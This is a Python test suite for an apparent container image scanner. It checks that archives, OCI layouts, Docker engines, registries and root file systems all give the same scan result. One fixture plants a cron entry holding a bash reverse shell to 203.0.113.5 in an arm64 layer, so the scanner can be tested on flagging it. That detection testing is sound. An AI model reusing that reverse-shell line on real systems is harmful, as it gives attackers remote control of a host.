"""One image from every source gives one answer: archive, stream, OCI layout, Docker engine, registry, root file system."""
import http.server
import json
import os
import shutil
import subprocess
import tarfile
import threading

import support
from support import FAILED, SAFE, UNKNOWN, UNSAFE, hullcheck


def essence(report):
    """What must not depend on where the image came from."""
    return {
        "verdict": report["verdict"],
        "packages": [(p["name"], p["version"], p["architecture"]) for p in report["packages"]],
        "vulnerabilities": sorted((v["package"], v["advisory"]) for v in report["vulnerabilities"]),
        "threats": [(f["rule"], f["locations"][0]["path"]) for f in report["threats"]],
        "layers": [layer["diffId"] for layer in report["image"]["layers"]],
    }


def scan(reference, *args, code=SAFE, **kwargs):
    answer = hullcheck("image", reference, "--format", "json", *args, database=support.database(), **kwargs)
    assert answer.code == code, (reference, answer)
    return answer.json


EXPECTED = None
ARCHIVE = None


def archive_plain():
    global EXPECTED, ARCHIVE
    ARCHIVE = support.debian_image("trixie")
    report = scan(ARCHIVE)
    assert report["image"]["source"] == "archive"
    EXPECTED = essence(report)


def archive_compressed_and_stream():
    for name, command in (("i.tar.gz", ["gzip", "-1", "-c"]), ("i.tar.zst", ["zstd", "-1", "-c", "-q"])):
        path = support.scratch() / name
        with open(path, "wb") as out:
            subprocess.run([*command, str(ARCHIVE)], stdout=out, check=True)
        assert essence(scan(path)) == EXPECTED
        assert essence(scan(path)) == EXPECTED, "warm"
    with open(ARCHIVE, "rb") as stream:
        report = scan("-", stdin=stream)
    assert essence(report) == EXPECTED and report["image"]["source"] == "stdin"


def layout_folder_and_tar():
    support.need_tool("skopeo")
    layout = support.scratch() / "layout"
    subprocess.run(["skopeo", "copy", "--quiet", f"docker-archive:{ARCHIVE}", f"oci:{layout}:one"], check=True)
    for reference in (f"oci:{layout}", f"oci:{layout}:one", f"{layout}/"):
        assert essence(scan(reference)) == EXPECTED, reference
    packed = support.scratch() / "layout.tar"
    with tarfile.open(packed, "w") as tar:
        tar.add(layout, arcname=".")
    assert essence(scan(f"oci:{packed}")) == EXPECTED
    assert essence(scan(packed)) == EXPECTED
    digest = json.loads((layout / "index.json").read_text())["manifests"][0]["digest"]
    assert essence(scan(f"oci:{layout}@{digest}")) == EXPECTED
    # The layout inside newer `docker save` archives: the same blobs with a manifest.json beside them.
    index = json.loads((layout / "index.json").read_text())
    manifest = json.loads((layout / "blobs" / index["manifests"][0]["digest"].replace(":", "/")).read_text())
    blob = lambda d: "blobs/" + d.replace(":", "/")
    mixed = support.scratch() / "mixed.tar"
    with tarfile.open(mixed, "w") as tar:
        tar.add(layout, arcname=".")
        support.add_bytes(tar, "manifest.json", json.dumps([{
            "Config": blob(manifest["config"]["digest"]), "RepoTags": ["mixed:latest"],
            "Layers": [blob(l["digest"]) for l in manifest["layers"]]}]).encode())
    assert essence(scan(f"archive:{mixed}")) == EXPECTED
    with open(mixed, "rb") as stream:
        assert essence(scan("-", stdin=stream)) == EXPECTED


def several_images_in_one_archive():
    first, second = support.layer({"etc/os-release": "ID=alpine\nVERSION_ID=3.10.0\n"}), support.layer({"x": "y"})
    path = support.scratch() / "two.tar"
    with tarfile.open(path, "w") as tar:
        manifest = []
        for name, data in (("one", first), ("two", second)):
            config = support.image_config([support.sha256(data)])
            support.add_bytes(tar, f"{name}/layer.tar", data)
            support.add_bytes(tar, f"{name}.json", config)
            manifest.append({"Config": f"{name}.json", "RepoTags": [f"{name}:1"], "Layers": [f"{name}/layer.tar"]})
        support.add_bytes(tar, "manifest.json", json.dumps(manifest).encode())
    report = scan(path, code=UNKNOWN)
    assert len(report["results"]) == 2 and report["verdict"] == "unknown", report
    assert "results" not in scan(path, "--tag", "two:1", code=UNKNOWN)


def every_platform_of_an_index():
    """Miners were shipped for one processor alone: each platform is an image of its own."""
    place = support.scratch() / "platforms"
    store = place / "blobs" / "sha256"
    store.mkdir(parents=True)

    def put(data):
        digest = support.sha256(data)
        (store / digest.removeprefix("sha256:")).write_bytes(data)
        return {"digest": digest, "size": len(data)}

    base = {"etc/os-release": 'ID=debian\nVERSION_ID="12"\n', "var/lib/dpkg/status":
            "Package: base-files\nStatus: install ok installed\nArchitecture: all\nVersion: 12.4\n\n"}
    manifests = []
    for architecture, files in (("amd64", {}), ("arm64", {"etc/cron.d/x": "* * * * * root bash -i >& /dev/tcp/203.0.113.5/443 0>&1\n"})):
        layer = support.layer(base | files)
        config = json.loads(support.image_config([support.sha256(layer)])) | {"architecture": architecture}
        manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                    "config": {"mediaType": "application/vnd.oci.image.config.v1+json", **put(json.dumps(config).encode())},
                    "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", **put(layer)}]}
        manifests.append({"mediaType": manifest["mediaType"], "platform": {"os": "linux", "architecture": architecture},
                          **put(json.dumps(manifest).encode())})
    index = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": manifests})
    nested = {"mediaType": "application/vnd.oci.image.index.v1+json", **put(index.encode())}
    (place / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [nested]}))
    (place / "oci-layout").write_text('{"imageLayoutVersion":"1.0.0"}')
    one = scan(f"oci:{place}", "--platform", "linux/amd64")
    assert one["image"]["platform"] == "linux/amd64" and not one["threats"], one
    both = scan(f"oci:{place}", "--platform", "all", code=UNSAFE)
    assert [result["image"]["platform"] for result in both["results"]] == ["linux/amd64", "linux/arm64"], both
    assert [result["verdict"] for result in both["results"]] == ["safe", "unsafe"] and both["verdict"] == "unsafe", both
    none = hullcheck("image", f"oci:{place}", "--platform", "linux/s390x", database=support.database())
    assert none.code == FAILED and "s390x" in none.err and "linux/arm64" in none.err, none


def authority(place, name):
    """A certificate authority with certificates for a server on loopback and for a client, named as Docker does."""
    place.mkdir()

    def openssl(*args):
        subprocess.run(["openssl", *map(str, args)], check=True, capture_output=True)

    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", f"/CN={name}", "-keyout",
            place / "ca-key.pem", "-out", place / "ca.pem")
    for who, key, usage in (("server", "server-key", "serverAuth"), ("cert", "key", "clientAuth")):
        extra = place / "extra"
        extra.write_text(f"extendedKeyUsage = {usage}\nsubjectAltName = IP:127.0.0.1,DNS:localhost\n")
        openssl("req", "-newkey", "rsa:2048", "-nodes", "-subj", f"/CN={who}", "-keyout", place / f"{key}.pem", "-out",
                place / "request")
        openssl("x509", "-req", "-days", "2", "-in", place / "request", "-CA", place / "ca.pem", "-CAkey",
                place / "ca-key.pem", "-CAcreateserial", "-extfile", extra, "-out", place / f"{who}.pem")
    return place


def engine_behind_tls(tcp, trusted):
    verified = {"DOCKER_HOST": tcp, "DOCKER_TLS_VERIFY": "1", "DOCKER_CERT_PATH": str(trusted)}
    assert essence(scan("docker:trixie", "--no-cache", env=verified)) == EXPECTED
    unverified = {"DOCKER_HOST": tcp, "DOCKER_TLS": "1", "DOCKER_CERT_PATH": str(trusted)}
    assert essence(scan("docker:trixie", "--no-cache", env=unverified)) == EXPECTED
    stranger = authority(support.scratch() / "stranger", "a stranger")
    for environment in ({"DOCKER_HOST": tcp}, {**verified, "DOCKER_CERT_PATH": str(stranger)},
                        {**verified, "DOCKER_CERT_PATH": str(support.scratch() / "nothing")}):
        refused = hullcheck("image", "docker:trixie", database=support.database(), env=environment)
        assert refused.code == FAILED and refused.err.count("\n") <= 3 and "127.0.0.1" in refused.err, refused
    engine_did_not_say_which_certificate_is_missing(verified, trusted)


def engine_did_not_say_which_certificate_is_missing(verified, trusted):
    """The flaw: what OpenSSL said was all that was said."""
    folder = support.scratch() / "some-certificates"
    folder.mkdir()
    environment = {**verified, "DOCKER_CERT_PATH": str(folder)}
    untrusted = hullcheck("image", "docker:trixie", database=support.database(), env=environment)
    assert untrusted.code == FAILED and "put the ca.pem" in untrusted.err, untrusted
    shutil.copy(trusted / "ca.pem", folder / "ca.pem")
    unknown = hullcheck("image", "docker:trixie", database=support.database(), env=environment)
    assert unknown.code == FAILED and "wants a client certificate" in unknown.err, unknown


def docker_engine():
    support.need_tool("openssl")
    trusted = authority(support.scratch() / "trusted", "ours")
    host, tcp = support.start_dockerd(trusted)
    with open(ARCHIVE, "rb") as stream:
        support.docker(host, "load", stdin=stream)
    environment = {"DOCKER_HOST": host}
    for reference in ("docker:trixie:latest", "trixie:latest", "trixie"):
        report = scan(reference, env=environment)
        assert essence(report) == EXPECTED and report["image"]["source"] == "docker", reference
    # Everything is known now: no export is asked for.
    warm = hullcheck("image", "docker:trixie", "--quiet", database=support.database(), env=environment)
    assert warm.code == SAFE and warm.seconds < 1, warm.seconds
    missing = hullcheck("image", "docker:no-such-image", database=support.database(), env=environment)
    assert missing.code == FAILED and "no-such-image" in missing.err, missing
    engine_behind_tls(tcp, trusted)

    folder = support.scratch() / "context"
    folder.mkdir()
    (folder / "Dockerfile").write_text("FROM trixie:latest\nRUN echo one > /one\nRUN rm /one && useradd -m app\n"
                                       "ADD x.sh /usr/local/bin/x.sh\nUSER app\nENTRYPOINT [\"/usr/local/bin/x.sh\"]\n")
    (folder / "x.sh").write_text("#!/bin/sh\nexec sleep 1\n")
    support.docker(host, "build", "--network=host", "-q", "-t", "built", str(folder))
    report = hullcheck("image", "built", "--format", "json", database=support.database(), env=environment).json
    assert len(report["image"]["layers"]) == 4, report["image"]["layers"]
    assert report["threats"] == [], report["threats"]
    saved = support.scratch() / "built.tar"
    support.docker(host, "save", "-o", saved, "built")
    again = hullcheck("image", saved, "--format", "json", database=support.database()).json
    assert essence(report) == essence(again)


def registry_open():
    support.need_tool("skopeo")
    host = support.start_registry()
    subprocess.run(["skopeo", "copy", "--quiet", "--dest-tls-verify=false", f"docker-archive:{ARCHIVE}",
                    f"docker://{host}/team/trixie:1"], check=True)
    reference = f"registry:{host}/team/trixie:1"
    assert essence(scan(reference, "--insecure")) == EXPECTED
    warm = hullcheck("image", reference, "--insecure", "--quiet", database=support.database())
    assert warm.code == SAFE and warm.seconds < 1, warm.seconds
    assert essence(scan(f"{host}/team/trixie:1", "--insecure")) == EXPECTED
    offline = hullcheck("image", f"{host}/team/trixie:1", "--offline", database=support.database())
    assert offline.code == FAILED, offline
    missing = hullcheck("image", f"registry:{host}/team/none:1", "--insecure", database=support.database())
    assert missing.code == FAILED and "team/none" in missing.err, missing


def broken_plain_registry_was_blamed_on_tls():
    """The flaw: what plain HTTP said was hidden behind the TLS error of the question before it."""
    class Circle(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", self.path)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Circle)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    answer = hullcheck("image", f"registry:127.0.0.1:{server.server_port}/app:1")
    server.shutdown()
    assert answer.code == FAILED and "redirects more than" in answer.err and "SSL" not in answer.err, answer


def registry_behind_password_and_tls():
    for tool in ("skopeo", "openssl", "htpasswd"):
        support.need_tool(tool)
    place = support.scratch() / "tls"
    place.mkdir()
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=localhost",
                    "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1", "-keyout", place / "key.pem", "-out",
                    place / "cert.pem"], check=True, capture_output=True)
    words = subprocess.run(["htpasswd", "-Bbn", "user", "secret-word"], capture_output=True, text=True, check=True).stdout
    (place / "htpasswd").write_text(words)
    host = support.start_registry(place / "htpasswd", (place / "cert.pem", place / "key.pem"))
    subprocess.run(["skopeo", "copy", "--quiet", "--dest-tls-verify=false", "--dest-creds=user:secret-word",
                    f"docker-archive:{ARCHIVE}", f"docker://{host}/trixie:1"], check=True)
    reference = f"registry:{host}/trixie:1"
    denied = hullcheck("image", reference, "--insecure", database=support.database())
    assert denied.code == FAILED and "secret-word" not in denied.err, denied
    import base64
    config = support.scratch() / "docker-config"
    config.mkdir()
    (config / "config.json").write_text(json.dumps(
        {"auths": {host: {"auth": base64.b64encode(b"user:secret-word").decode()}}}))
    environment = {"DOCKER_CONFIG": str(config)}
    assert essence(scan(reference, "--insecure", env=environment)) == EXPECTED
    helper = support.scratch() / "bin"
    helper.mkdir()
    (helper / "docker-credential-demo").write_text(
        "#!/bin/sh\nread server\nprintf '{\"ServerURL\":\"%s\",\"Username\":\"user\",\"Secret\":\"secret-word\"}' \"$server\"\n")
    (helper / "docker-credential-demo").chmod(0o755)
    (config / "config.json").write_text(json.dumps({"credHelpers": {host: "demo"}}))
    environment["PATH"] = f"{helper}:{os.environ['PATH']}"
    assert essence(scan(reference, "--insecure", "--no-cache", env=environment)) == EXPECTED
    strict = hullcheck("image", reference, database=support.database(), env=environment)
    assert strict.code == FAILED and "--insecure" in strict.err, strict


def root_file_system():
    tree = support.scratch() / "rootfs"
    tree.mkdir()
    with tarfile.open(support.debian_tree("trixie")) as tar:
        tar.extractall(tree, filter=None) if not hasattr(tarfile, "data_filter") else tar.extractall(tree, filter="fully_trusted")
    report = scan(f"rootfs:{tree}")
    got = essence(report)
    for key in ("packages", "vulnerabilities", "threats", "verdict"):
        assert got[key] == EXPECTED[key], key
    assert report["image"]["source"] == "rootfs"


support.need_shared()
support.need_root()
support.run(archive_plain, archive_compressed_and_stream, layout_folder_and_tar, several_images_in_one_archive, every_platform_of_an_index,
            docker_engine, registry_open, broken_plain_registry_was_blamed_on_tls, registry_behind_password_and_tls, root_file_system)
